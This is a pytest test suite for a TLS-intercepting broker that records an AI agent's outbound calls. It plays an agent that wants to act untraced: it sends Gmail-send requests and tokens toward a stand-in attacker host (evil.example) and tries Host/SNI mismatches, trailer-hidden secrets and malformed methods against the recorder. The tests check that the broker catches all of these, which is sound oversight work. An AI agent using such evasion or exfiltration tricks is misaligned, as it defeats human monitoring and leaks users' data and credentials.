"""Issue 21 (items 1, 2, 5, 6), as an agent that wants to act without a trace would try it: through a
real `broker run` with real TLS interception, to the local fake upstreams.

- the destination decides, not a header: a tunnel to one host naming another in Host or in an
  absolute-form target is refused before upstream (421) with an entry;
- trailers in either direction are relayed and recorded, or refused with an entry; never a crash;
- every host is recorded unless the operator passes it (`--pass-unknown`);
- every refusal the broker answers itself leaves an entry.
"""

from __future__ import annotations

import base64
import contextlib
import http.client
import json
import socket
import ssl
import threading
import time

import pytest

from tests.support.broker_harness import BrokerProcess
from tests.support.upstreams import Upstream

pytestmark = pytest.mark.e2e
EVIL = "evil.example"
GMAIL_HOST = "gmail.googleapis.com"
SEND = "/gmail/v1/users/me/messages/send"
RAW = b'{"raw": "VG86IGJvc3NAZXhhbXBsZS5jb20KClBheSB0aGUgaW52b2ljZS4="}'


@pytest.fixture(scope="module")
def upstream():
    up = Upstream()
    up.hosts.append(EVIL)  # the agent's own server: in the fake CA's certificate, no connector knows it
    up.start()
    try:
        yield up
    finally:
        up.stop()


@pytest.fixture(scope="module")
def broker(upstream, tmp_path_factory):
    with BrokerProcess(tmp_path_factory.mktemp("broker"), upstream, "--session", "fallback") as b:
        yield b


def basic(session: str, agent: str = "agent") -> str:
    return "Basic " + base64.b64encode(f"{session}:{agent}".encode()).decode()


def tunnel(b: BrokerProcess, target: str, *, auth: str | None = None, sni: str | None = None) -> ssl.SSLSocket:
    """CONNECT target:443 through the broker, then TLS with the broker's CA (SNI `sni`, default the target)."""
    raw = socket.create_connection(("127.0.0.1", b.port), timeout=30)
    head = f"CONNECT {target}:443 HTTP/1.1\r\nHost: {target}:443\r\n"
    if auth:
        head += f"Proxy-Authorization: {auth}\r\n"
    raw.sendall((head + "\r\n").encode())
    answer = b""
    while b"\r\n\r\n" not in answer:
        chunk = raw.recv(4096)
        assert chunk, answer
        answer += chunk
    assert answer.split(b" ", 2)[1] == b"200", answer
    ctx = ssl.create_default_context(cafile=b.ca)
    ctx.check_hostname = False
    return ctx.wrap_socket(raw, server_hostname=sni or target)


def exchange(sock: socket.socket, raw: bytes) -> tuple[int, bytes]:
    sock.sendall(raw)
    resp = http.client.HTTPResponse(sock)  # type: ignore[arg-type]
    resp.begin()
    return resp.status, resp.read()


def post(target: str, host: str, body: bytes = RAW, extra: str = "") -> bytes:
    return (f"POST {target} HTTP/1.1\r\nHost: {host}\r\nContent-Type: application/json\r\n"
            f"Authorization: Bearer ya29.secret-token\r\n{extra}Content-Length: {len(body)}\r\n\r\n").encode() + body


def upstream_saw(up: Upstream, path: str) -> list[dict]:
    return [r for r in list(up.requests) if r["path"].startswith(path)]


# -- 1. the destination decides -------------------------------------------------------------------


def test_tunnel_to_the_platform_with_another_host_header_is_refused_with_an_entry(broker, upstream):
    before = len(upstream_saw(upstream, SEND))
    with tunnel(broker, GMAIL_HOST, auth=basic("s-misdirected")) as s:
        status, body = exchange(s, post(SEND, EVIL))
    assert status == 421, body
    with tunnel(broker, GMAIL_HOST, auth=basic("s-misdirected")) as s:  # absolute-form naming another host
        status, _ = exchange(s, post(f"https://{EVIL}{SEND}", GMAIL_HOST))
    assert status == 421
    assert len(upstream_saw(upstream, SEND)) == before  # never reached the platform
    got = broker.entries("s-misdirected", 2)
    assert len(got) == 2
    for e in got:
        assert e["response"]["status"] == 421 and e["response"]["answered_by"] == "capture"
        assert "misdirected" in e["response"]["error"]
        assert e["request"]["url"].startswith(f"https://{GMAIL_HOST}")  # where it would have gone
        assert e["connector"] == "gmail"
        assert "ya29.secret-token" not in str(e)


def test_tunnel_to_another_host_naming_the_platform_is_never_a_gmail_entry(broker, upstream):
    with tunnel(broker, EVIL, auth=basic("s-evil-tunnel")) as s:
        status, _ = exchange(s, post(SEND, GMAIL_HOST))
    assert status == 421
    (e,) = broker.entries("s-evil-tunnel", 1)
    assert e["connector"] != "gmail" and e["request"]["url"].startswith(f"https://{EVIL}")
    assert e["response"]["answered_by"] == "capture"
    assert not [r for r in upstream_saw(upstream, SEND) if r["sni"] == EVIL]


def test_sni_naming_another_host_than_the_tunnel_is_refused(broker):
    with tunnel(broker, GMAIL_HOST, auth=basic("s-sni"), sni=EVIL) as s:
        status, _ = exchange(s, post(SEND, GMAIL_HOST))
    assert status == 421
    (e,) = broker.entries("s-sni", 1)
    assert e["response"]["answered_by"] == "capture" and "SNI" in e["response"]["error"]


@pytest.mark.parametrize("spelling", ["GMAIL.GoogleAPIs.com", "gmail.googleapis.com.", "gmail.googleapis.com:443"])
def test_case_and_trailing_dot_of_the_same_host_stay_accepted(broker, spelling):
    session = f"s-spelling-{len(spelling)}-{spelling[0]}"
    with tunnel(broker, GMAIL_HOST, auth=basic(session)) as s:
        status, _ = exchange(s, post(SEND, spelling))
    assert status != 421  # forwarded (the fake server routes on the exact Host it is given)
    (e,) = broker.entries(session, 1)
    assert (e["connector"], e["effect"], e["response"]["answered_by"]) == ("gmail", "write", "upstream")


# -- 5. every host recorded unless passed ---------------------------------------------------------


def test_unknown_host_is_recorded_by_default(broker, upstream):
    with tunnel(broker, EVIL, auth=basic("s-unknown-host")) as s:
        status, _ = exchange(s, f"GET /echo HTTP/1.1\r\nHost: {EVIL}\r\n\r\n".encode())
        assert status == 200
        status, _ = exchange(s, post("/echo", EVIL))
        assert status == 200
    got = broker.entries("s-unknown-host", 2)
    assert [(e["connector"], e["effect"], e["request"]["effect_basis"]) for e in got] == [
        ("other", "read", "default"), ("other", "write", "default")]


def test_git_smart_http_on_github_is_read_for_fetch_and_write_for_push(broker):
    repo = "/octo/repo.git"
    with tunnel(broker, "github.com", auth=basic("s-git")) as s:
        for raw in (
            f"GET {repo}/info/refs?service=git-upload-pack HTTP/1.1\r\nHost: github.com\r\n\r\n".encode(),
            post(f"{repo}/git-upload-pack", "github.com", b"0000"),
            post(f"{repo}/git-receive-pack", "github.com", b"0000"),
        ):
            exchange(s, raw)
    got = broker.entries("s-git", 3)
    assert [(e["connector"], e["effect"]) for e in got] == [("github", "read"), ("github", "read"),
                                                            ("github", "write")]


def test_a_call_naming_no_session_is_recorded_under_the_default_and_said_once(broker):
    for _ in range(2):
        with tunnel(broker, GMAIL_HOST) as s:
            status, _ = exchange(s, f"GET /gmail/v1/users/me/labels HTTP/1.1\r\nHost: {GMAIL_HOST}\r\n\r\n".encode())
            assert status == 200
    assert any(e["request"]["url"].endswith("/labels") for e in broker.entries("fallback", 1))
    text = bytes(broker.output).decode(errors="replace")
    assert text.count("calls from 127.0.0.1 name no session") == 1, text


def test_pass_unknown_passes_chosen_hosts_says_so_once_and_sums_up_at_stop(upstream, tmp_path):
    b = BrokerProcess(tmp_path, upstream, "--pass-unknown", EVIL.upper()).start()
    try:
        for _ in range(3):
            with tunnel(b, EVIL, auth=basic("s-passed")) as s:
                assert exchange(s, f"GET /echo HTTP/1.1\r\nHost: {EVIL}\r\n\r\n".encode())[0] == 200
        with tunnel(b, GMAIL_HOST, auth=basic("s-passed")) as s:  # a connector's host is never passed
            exchange(s, f"GET /gmail/v1/users/me/labels HTTP/1.1\r\nHost: {GMAIL_HOST}\r\n\r\n".encode())
        assert [e["connector"] for e in b.entries("s-passed", 1)] == ["gmail"]
    finally:
        b.stop()
    text = bytes(b.output).decode(errors="replace")
    assert text.count(f"passing {EVIL} unrecorded") == 1, text
    assert f"{EVIL} (3)" in text


def test_pass_unknown_that_names_no_host_is_one_clear_error(upstream, tmp_path):
    b = BrokerProcess(tmp_path, upstream, "--pass-unknown", "https://x.example/")
    with pytest.raises(RuntimeError, match="pass-unknown"):
        b.start(timeout=30)


# -- 6. every refusal leaves an entry -------------------------------------------------------------


def test_unreadable_proxy_credentials_are_refused_with_an_entry(broker):
    raw = socket.create_connection(("127.0.0.1", broker.port), timeout=30)
    with raw:
        raw.sendall(f"CONNECT {GMAIL_HOST}:443 HTTP/1.1\r\nHost: {GMAIL_HOST}:443\r\n"
                    "Proxy-Authorization: Basic !!!not-base64\r\n\r\n".encode())
        answer = raw.recv(4096)
    assert answer.split(b" ", 2)[1] == b"400"
    # on a plain proxied request, with the session named by header
    raw = socket.create_connection(("127.0.0.1", broker.port), timeout=30)
    with raw:
        status, _ = exchange(raw, b"GET http://127.0.0.1:9/x HTTP/1.1\r\nHost: 127.0.0.1:9\r\n"
                                  b"X-Broker-Session: s-badcreds\r\nProxy-Authorization: Bearer nope\r\n\r\n")
    assert status == 400
    (e,) = broker.entries("s-badcreds", 1)
    assert (e["response"]["status"], e["response"]["answered_by"]) == (400, "capture")
    assert "proxy credentials" in e["response"]["error"]
    assert all(k.lower() != "proxy-authorization" for k, _ in e["request"]["headers"])
    deadline = time.monotonic() + 20
    while time.monotonic() < deadline:
        connects = [e for e in broker.entries("fallback") if e["request"]["method"] == "CONNECT"]
        if connects:
            break
        time.sleep(0.1)
    assert connects and connects[0]["response"]["answered_by"] == "capture"
    assert connects[0]["response"]["status"] == 400


# -- 2. trailers ----------------------------------------------------------------------------------

GHP = "ghp_" + "T" * 36  # a GitHub token shape: must reach no entry and no log


TRAILER_HOST = "127.0.0.2"  # loopback, but not 127.0.0.1 (which --resolve sends to the fake upstreams)


class TrailerServer:
    """A plain-HTTP upstream on loopback that keeps every request's raw bytes and answers chunked,
    with trailer fields when the path asks for them (`/with-trailers`)."""

    def __init__(self) -> None:
        self.sock = socket.create_server((TRAILER_HOST, 0))
        self.port = self.sock.getsockname()[1]
        self.received: list[bytes] = []
        self._thread = threading.Thread(target=self._serve, daemon=True)
        self._thread.start()

    def _serve(self) -> None:
        while True:
            try:
                conn, _ = self.sock.accept()
            except OSError:
                return
            threading.Thread(target=self._one, args=(conn,), daemon=True).start()

    def _one(self, conn: socket.socket) -> None:
        with conn:
            conn.settimeout(20)
            data = b""
            try:
                while b"\r\n\r\n" not in data:
                    data += conn.recv(65536)
                head = data.split(b"\r\n\r\n", 1)[0].lower()
                if b"transfer-encoding: chunked" in head:
                    while not data.endswith(b"\r\n\r\n") or data.count(b"\r\n0\r\n") == 0:
                        chunk = conn.recv(65536)
                        if not chunk:
                            break
                        data += chunk
                self.received.append(data)
                trailers = b"x-checksum: abc123\r\nx-api-key: " + GHP.encode() + b"\r\n"
                conn.sendall(b"HTTP/1.1 200 OK\r\nContent-Type: text/plain\r\nTransfer-Encoding: chunked\r\n"
                             b"Trailer: x-checksum, x-api-key\r\n\r\n5\r\nhello\r\n0\r\n"
                             + (trailers if b" /with-trailers " in data.split(b"\r\n", 1)[0] + b" " else b"")
                             + b"\r\n")
            except OSError as exc:
                self.received.append(repr(exc).encode() + b" after " + data)

    def close(self) -> None:
        """Stops the accept loop (closing alone does not wake a thread blocked in accept on Linux; a thread
        left running keeps later tests from forking) and waits for it."""
        with contextlib.suppress(OSError):
            self.sock.shutdown(socket.SHUT_RDWR)
        self.sock.close()
        self._thread.join(10)


@pytest.fixture
def trailer_server():
    srv = TrailerServer()
    yield srv
    srv.close()


def chunked_post_with_trailers(target: str, host: str, session: str) -> bytes:
    return (f"POST {target} HTTP/1.1\r\nHost: {host}\r\nX-Broker-Session: {session}\r\n"
            "Content-Type: text/plain\r\nTransfer-Encoding: chunked\r\nTrailer: x-checksum, x-api-key\r\n\r\n"
            f"5\r\nhello\r\n6\r\n world\r\n0\r\nx-checksum: abc123\r\nx-api-key: {GHP}\r\n\r\n").encode()


def plain(b: BrokerProcess) -> socket.socket:
    return socket.create_connection(("127.0.0.1", b.port), timeout=30)


def no_secret_anywhere(b: BrokerProcess, entries: list[dict]) -> None:
    assert GHP not in bytes(b.output).decode(errors="replace")
    assert all(GHP not in str(e) for e in entries)


def test_http1_request_trailers_are_relayed_and_recorded_redacted(broker, trailer_server):
    with plain(broker) as s:
        authority = f"{TRAILER_HOST}:{trailer_server.port}"
        status, body = exchange(s, chunked_post_with_trailers(f"http://{authority}/echo", authority, "s-req-trailers"))
    assert status == 200 and body == b"hello"
    (sent,) = trailer_server.received
    assert b"hello" in sent and b" world" in sent
    assert b"x-checksum: abc123" in sent and GHP.encode() in sent  # relayed to the platform, as sent
    (e,) = broker.entries("s-req-trailers", 1)
    assert e["request"]["body"] == "hello world"
    assert e["request"]["trailers"] == [["x-checksum", "abc123"], ["x-api-key", "[never captured]"]]
    assert e["response"]["answered_by"] == "upstream"
    no_secret_anywhere(broker, [e])
    assert broker.alive()


def test_http1_response_trailers_are_relayed_and_recorded_redacted(broker, trailer_server):
    with plain(broker) as s:
        s.sendall(f"GET http://{TRAILER_HOST}:{trailer_server.port}/with-trailers HTTP/1.1\r\n"
                  f"Host: {TRAILER_HOST}:{trailer_server.port}\r\nX-Broker-Session: s-resp-trailers\r\n\r\n".encode())
        raw = b""
        while not raw.endswith(b"\r\n\r\n") or b"\r\n0\r\n" not in raw:
            chunk = s.recv(65536)
            assert chunk, raw
            raw += chunk
    assert raw.startswith(b"HTTP/1.1 200")
    assert b"x-checksum: abc123" in raw  # the client got the trailers
    (e,) = broker.entries("s-resp-trailers", 1)
    assert e["response"]["body"] == "hello" and e["response"]["answered_by"] == "upstream"
    assert e["response"]["trailers"] == [["x-checksum", "abc123"], ["x-api-key", "[never captured]"]]
    assert GHP not in str(e)


def test_http2_request_trailers_reach_the_platform_with_the_body_the_entry_holds(broker, upstream):
    import h2.config
    import h2.connection
    import h2.events

    raw = socket.create_connection(("127.0.0.1", broker.port), timeout=30)
    raw.sendall(f"CONNECT {EVIL}:443 HTTP/1.1\r\nHost: {EVIL}:443\r\n"
                f"Proxy-Authorization: {basic('s-h2-trailers')}\r\n\r\n".encode())
    answer = b""
    while b"\r\n\r\n" not in answer:
        answer += raw.recv(4096)
    ctx = ssl.create_default_context(cafile=broker.ca)
    ctx.set_alpn_protocols(["h2"])
    s = ctx.wrap_socket(raw, server_hostname=EVIL)
    assert s.selected_alpn_protocol() == "h2"
    conn = h2.connection.H2Connection(h2.config.H2Configuration(client_side=True))
    conn.initiate_connection()
    body = b'{"note": "posted with trailers"}'
    conn.send_headers(1, [(":method", "POST"), (":scheme", "https"), (":authority", EVIL), (":path", "/echo"),
                          ("content-type", "application/json")])
    conn.send_data(1, body)
    conn.send_headers(1, [("x-api-key", GHP), ("x-checksum", "abc123")], end_stream=True)
    s.sendall(conn.data_to_send())
    status, got, ended = None, b"", False
    while not ended:
        data = s.recv(65536)
        assert data, "the broker closed the connection"
        for ev in conn.receive_data(data):
            if isinstance(ev, h2.events.ResponseReceived):
                status = dict(ev.headers)[b":status"]
            elif isinstance(ev, h2.events.DataReceived):
                got += ev.data
                conn.acknowledge_received_data(ev.flow_controlled_length, ev.stream_id)
            elif isinstance(ev, h2.events.StreamEnded | h2.events.StreamReset):
                ended = True
        s.sendall(conn.data_to_send())
    s.close()
    (e,) = broker.entries("s-h2-trailers", 1)
    no_secret_anywhere(broker, [e])
    assert broker.alive()
    # relayed (to an HTTP/1 upstream, framed chunked): the platform got the body the entry holds
    assert e["response"]["answered_by"] == "upstream" and status == b"200"
    echoed = json.loads(got)
    assert echoed["size"] == len(body) and echoed["chunked"] is True
    assert e["request"]["body"] == json.loads(body)
    assert e["request"]["trailers"] == [["x-api-key", "[never captured]"], ["x-checksum", "abc123"]]


def test_a_method_of_raw_bytes_inside_a_tunnel_is_parsed_and_recorded_never_relayed_as_raw_tcp(broker):
    with tunnel(broker, GMAIL_HOST, auth=basic("s-raw-method")) as s:
        s.sendall(f"G\xffT /gmail/v1/users/me/labels HTTP/1.1\r\nHost: {GMAIL_HOST}\r\n\r\n".encode("latin-1"))
        assert s.recv(65536).startswith(b"HTTP/1.1 ")
    (e,) = broker.entries("s-raw-method", 1)
    assert e["request"]["method"] == "G\xffT" and e["request"]["latin1"] == ["/method"]
    assert e["connector"] == "gmail" and e["effect"] == "write"
